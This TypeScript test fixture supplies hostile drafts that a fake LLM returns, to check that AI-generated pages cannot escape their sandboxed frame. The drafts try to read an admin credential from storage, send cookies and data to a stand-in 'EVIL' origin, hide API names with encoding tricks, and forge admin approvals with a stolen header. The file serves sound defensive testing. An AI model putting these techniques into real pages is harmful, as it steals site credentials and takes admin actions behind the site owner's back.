// Drafts an LLM could answer Generate with, each trying one way out of a generated page's frame: to the site's
// storage, its admin API with the admin's header, another address, or the page around it. Every way is one a
// list of names cannot stop (a name off the list, a window reached through the DOM, a name built at run time,
// plain JSX), plus the plain ones a lint would name. Each draft records what each attempt saw or threw in an
// <output data-probe>, which the browser test reads from inside the frame.
//
// In the sources: EVIL is another origin, listening and counting what reaches it; KEY the sessionStorage key
// of the admin's credential; VICTIM a request that only an admin could approve.

export interface HostileDraft {
  /** What it tries; also the request's tool name (`Hostile <name>`), by which the fake LLM answers it. */
  name: string;
  /** Statements run once the page is on screen: `await attempt('label', () => …)` records a result. */
  attack: string;
  /** JSX rendered beside the probe; `ref` is on their wrapper. */
  jsx?: string;
  /** Labels whose attempt must have thrown (a storage read, a cross-origin window, a refused fetch); the requests of the others are checked as requests. */
  mustThrow?: string[];
}

export const HOSTILE_DRAFTS: readonly HostileDraft[] = [
  {
    name: 'storage by name',
    attack: `
      await attempt('session', () => sessionStorage.getItem(KEY));
      await attempt('local', () => localStorage.getItem(KEY));
      await attempt('cookie', () => document.cookie);
      await attempt('indexedDB', () => indexedDB.open('toolnest'));
      await attempt('write', () => sessionStorage.setItem(KEY, 'Basic b3duZWQ6b3duZWQ='));`,
    mustThrow: ['session', 'local', 'cookie', 'indexedDB', 'write'],
  },
  {
    name: 'top',
    attack: `
      await attempt('storage', () => top!.sessionStorage.getItem(KEY));
      await attempt('document', () => top!.document.title);
      await attempt('navigate', () => { top!.location.href = EVIL + '/top'; });
      await attempt('replace', () => top!.location.replace('/admin?owned'));`,
    mustThrow: ['storage', 'document', 'navigate', 'replace'],
  },
  {
    name: 'parent',
    attack: `
      await attempt('storage', () => parent.sessionStorage.getItem(KEY));
      await attempt('document', () => parent.document.body.innerHTML);
      await attempt('navigate', () => { parent.location.href = EVIL + '/parent'; });`,
    mustThrow: ['storage', 'document', 'navigate'],
  },
  {
    name: 'opener and open',
    attack: `
      await attempt('opener', () => opener);
      await attempt('open', () => open(EVIL + '/open'));
      await attempt('openSite', () => window.open('/admin', '_blank'));`,
  },
  {
    name: 'location to another site',
    attack: `await attempt('assign', () => { location.href = EVIL + '/location?' + encodeURIComponent(String(document.cookie)); });`,
  },
  {
    name: 'location to the admin API',
    attack: `await attempt('assign', () => location.assign('/api/admin/tool-requests'));`,
  },
  {
    name: 'sendBeacon',
    attack: `
      await attempt('evil', () => navigator.sendBeacon(EVIL + '/beacon', 'x'));
      await attempt('site', () => navigator.sendBeacon('/api/admin/tool-requests/' + VICTIM + '/approve'));`,
  },
  {
    name: 'new Image',
    attack: `
      await attempt('image', () => { new Image().src = EVIL + '/image'; });
      await attempt('siteImage', () => { new Image().src = '/api/admin/tool-requests'; });`,
  },
  {
    name: 'postMessage',
    attack: `
      await attempt('huge', () => parent.postMessage({ type: 'toolnest:frame-height', height: 1e9 }, '*'));
      await attempt('extra', () => parent.postMessage({ type: 'toolnest:frame-notice', notice: 'copied', link: EVIL }, '*'));
      await attempt('asks', () => parent.postMessage({ authorization: 'please', key: KEY }, '*'));`,
  },
  {
    name: 'Worker',
    attack: `
      await attempt('blob', () => new Worker(URL.createObjectURL(new Blob(['fetch("' + EVIL + '/worker")'], { type: 'text/javascript' }))));
      await attempt('remote', () => new Worker(EVIL + '/worker.js'));
      await attempt('data', () => new Worker('data:text/javascript,fetch("' + EVIL + '/data-worker")'));
      await attempt('module', () => new Worker(import.meta.url, { type: 'module' }));`,
  },
  {
    name: 'import.meta',
    attack: `
      await attempt('url', () => import.meta.url.replace(/token=[^&]*/, 'token=…'));
      await attempt('import', () => import(/* @vite-ignore */ new URL(EVIL + '/module.js', import.meta.url).href));
      await attempt('siteModule', () => import(/* @vite-ignore */ new URL('/api/admin/tool-requests', import.meta.url).href));`,
  },
  {
    name: 'ownerDocument',
    attack: `
      const win = ref.current!.ownerDocument.defaultView!;
      await attempt('storage', () => win.sessionStorage.getItem(KEY));
      await attempt('topStorage', () => win.top!.sessionStorage.getItem(KEY));
      await attempt('fetch', () => win.fetch(EVIL + '/owner'));`,
    mustThrow: ['storage', 'topStorage', 'fetch'],
  },
  {
    name: 'event.view',
    jsx: `<button type="button" onClick={(event) => { viewed.current = event.view as unknown as Window; }}>Press</button>`,
    attack: `
      ref.current!.querySelector('button')!.click();
      const win = viewed.current!;
      await attempt('storage', () => win.sessionStorage.getItem(KEY));
      await attempt('parentStorage', () => win.parent.sessionStorage.getItem(KEY));
      await attempt('xhr', () => { const request = new win.XMLHttpRequest(); request.open('GET', EVIL + '/view'); request.send(); });`,
    mustThrow: ['storage', 'parentStorage'],
  },
  {
    name: 'String.fromCharCode',
    attack: `
      const name = String.fromCharCode(115, 101, 115, 115, 105, 111, 110, 83, 116, 111, 114, 97, 103, 101);
      await attempt('own', () => (globalThis as never)[name]);
      await attempt('top', () => (top as never as Record<string, Storage>)[name]!.getItem(KEY));`,
    mustThrow: ['own', 'top'],
  },
  {
    name: 'atob',
    attack: `
      const name = atob('c2Vzc2lvblN0b3JhZ2U=');
      const send = atob('ZmV0Y2g=');
      await attempt('storage', () => (parent as never as Record<string, Storage>)[name]!.getItem(KEY));
      await attempt('fetch', () => (globalThis as never as Record<string, (url: string) => Promise<unknown>>)[send]!(EVIL + '/atob'));`,
    mustThrow: ['storage', 'fetch'],
  },
  {
    name: 'reversed string',
    attack: `
      const name = 'egarotSnoisses'.split('').reverse().join('');
      const send = 'hctef'.split('').reverse().join('');
      await attempt('storage', () => (globalThis as never as Record<string, Storage>)[name]!.getItem(KEY));
      await attempt('fetch', () => (globalThis as never as Record<string, (url: string, init?: object) => Promise<unknown>>)[send]!('/api/admin/tool-requests/' + VICTIM + '/approve', { method: 'POST' }));`,
    mustThrow: ['storage', 'fetch'],
  },
  {
    name: 'template literal keys',
    attack: `
      await attempt('storage', () => (top as never as Record<string, Storage>)[\`sessionStorage\`]!.getItem(KEY));
      await attempt('fetch', () => (globalThis as never as Record<string, (url: string) => Promise<unknown>>)[\`fetch\`]!(EVIL + '/template'));
      await attempt('eval', () => (globalThis as never as Record<string, (code: string) => unknown>)[\`eval\`]!('1 + 1'));
      await attempt('Function', () => ({}).constructor.constructor('return top.sessionStorage')());`,
    mustThrow: ['storage', 'fetch', 'eval', 'Function'],
  },
  {
    name: 'dangerouslySetInnerHTML',
    jsx: `<div dangerouslySetInnerHTML={{ __html: '<img src="' + EVIL + '/inner.png" onerror="fetch(\\'' + EVIL + '/onerror\\')"><script>fetch("' + EVIL + '/inner-script")</script><a id="go" href="' + EVIL + '/link" target="_top">x</a>' }} />`,
    attack: `await attempt('click', () => (ref.current!.querySelector('#go') as HTMLAnchorElement).click());`,
  },
  {
    name: 'srcDoc',
    jsx: `<iframe title="inner" srcDoc={'<img src="' + EVIL + '/srcdoc.png"><script>top.location = "' + EVIL + '/srcdoc"</script><meta http-equiv="refresh" content="0;url=' + EVIL + '/srcdoc-refresh">'} />`,
    attack: `
      const inner = ref.current!.querySelector('iframe')!;
      await new Promise((resolve) => setTimeout(resolve, 200));
      await attempt('innerStorage', () => (inner.contentWindow as Window).sessionStorage.getItem(KEY));
      await attempt('innerFetch', () => (inner.contentWindow as Window).fetch(EVIL + '/srcdoc-fetch'));`,
    mustThrow: ['innerStorage', 'innerFetch'],
  },
  {
    name: 'form action',
    jsx: `<form action={EVIL + '/form'} method="post"><input name="stolen" defaultValue="x" /></form><form action={'/api/admin/tool-requests/' + VICTIM + '/approve'} method="post" target="_top" />`,
    attack: `
      await attempt('evil', () => ref.current!.querySelectorAll('form')[0]!.submit());
      await attempt('site', () => ref.current!.querySelectorAll('form')[1]!.requestSubmit());`,
  },
  {
    name: 'CSS url()',
    jsx: `<div style={{ backgroundImage: 'url(' + EVIL + '/css.png)', width: 10, height: 10 }} /><style>{'@import url(' + EVIL + '/import.css); body { background: url(' + EVIL + '/style.png) } @font-face { font-family: x; src: url(' + EVIL + '/font.woff) }'}</style><p style={{ fontFamily: 'x' }}>text</p>`,
    attack: `await attempt('styled', () => getComputedStyle(ref.current!.firstElementChild!).backgroundImage.length > 0);`,
  },
  {
    name: 'link rel=prefetch',
    jsx: `<link rel="prefetch" href={EVIL + '/prefetch'} /><link rel="preload" as="image" href={EVIL + '/preload.png'} /><link rel="stylesheet" href={EVIL + '/sheet.css'} precedence="default" />`,
    attack: `await attempt('links', () => document.querySelectorAll('link').length);`,
  },
  {
    name: 'meta refresh',
    jsx: `<meta httpEquiv="refresh" content={'0;url=' + EVIL + '/refresh'} />`,
    attack: `
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = '0;url=/api/admin/tool-requests';
      await attempt('added', () => document.head.append(meta));`,
  },
  {
    name: 'admin header on the admin API',
    attack: `
      let stolen = 'Basic ZTJlLWFkbWluOmUyZS1wYXNzd29yZC1ub3Qtc2VjcmV0';
      await attempt('read', () => { stolen = parent.sessionStorage.getItem(KEY) ?? stolen; });
      const headers = { authorization: stolen };
      await attempt('approve', () => fetch('/api/admin/tool-requests/' + VICTIM + '/approve', { method: 'POST', headers }));
      await attempt('list', () => fetch('/api/admin/tool-requests', { headers }).then((response) => response.text()));
      await attempt('xhr', () => { const request = new XMLHttpRequest(); request.open('POST', '/api/admin/tool-requests/' + VICTIM + '/approve'); request.setRequestHeader('authorization', stolen); request.send(); });
      await attempt('file', () => fetch('/api/tool-request', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ toolName: 'Leak', email: '', description: stolen }) }));`,
    mustThrow: ['read', 'approve', 'list', 'file'],
  },
  {
    name: 'network by name',
    attack: `
      await attempt('fetch', () => fetch(EVIL + '/fetch'));
      await attempt('socket', () => new WebSocket(EVIL.replace('http', 'ws') + '/socket'));
      await attempt('events', () => new EventSource(EVIL + '/events'));
      await attempt('script', () => { const script = document.createElement('script'); script.src = EVIL + '/script.js'; document.head.append(script); });`,
    mustThrow: ['fetch'],
  },
];

/** The draft's `.tsx` source: a component that runs its attack once on screen and shows what each attempt met. */
export function draftSource(draft: HostileDraft, { evil, victim }: { evil: string; victim: number }): string {
  return `import { useEffect, useRef, useState } from 'react';

const EVIL = ${JSON.stringify(evil)};
const KEY = 'toolnest.admin.authorization';
const VICTIM = ${victim};

export default function Hostile() {
  const ref = useRef<HTMLDivElement>(null);
  const viewed = useRef<Window | null>(null);
  const [results, setResults] = useState<Record<string, string> | null>(null);
  useEffect(() => {
    const seen: Record<string, string> = {};
    const attempt = async (label: string, act: () => unknown) => {
      try {
        seen[label] = 'saw ' + String(await act());
      } catch (error) {
        seen[label] = 'threw ' + String((error as Error)?.name ?? error);
      }
    };
    void (async () => {
      ${draft.attack}
      setResults({ ...seen });
    })();
  }, []);
  return (
    <div ref={ref}>
      ${draft.jsx ?? ''}
      <output data-probe={results ? 'done' : 'running'}>{JSON.stringify(results)}</output>
    </div>
  );
}
`;
}
